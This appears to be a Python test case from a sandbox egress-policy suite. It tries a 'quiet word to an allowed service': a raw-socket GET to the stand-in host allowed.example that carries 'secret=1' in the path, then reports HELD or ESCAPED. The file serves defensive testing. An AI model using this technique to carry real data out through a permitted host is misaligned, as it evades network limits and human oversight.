# attack: a quiet word to an allowed service
# family: 22
# runs: call exec
# stopped-by: design
# network: {"rules": [{"allow": "allowed.example"}]}
# event: ended allowed.example:80 sent
#
# What can't be forbidden is at least written down: host, bytes, rule.
import socket


def _talk(host, port, text):
    """What comes back until the other side ends, or as much as came before it reset."""
    got = b""
    try:
        with socket.create_connection((host, port), 5) as s:
            s.sendall(text)
            while part := s.recv(65536):
                got += part
    except OSError:
        pass
    return got


def _get(host, path="/", port=80):
    return _talk(host, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


def attack():
    answer = _get("allowed.example", "/post?secret=1")
    if b'"path": "/post?secret=1"' not in answer:
        return "ESCAPED: it can't be told from silence: the allowed host does not answer"
    return "HELD: it went out, and the runner looks for the event with its bytes"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
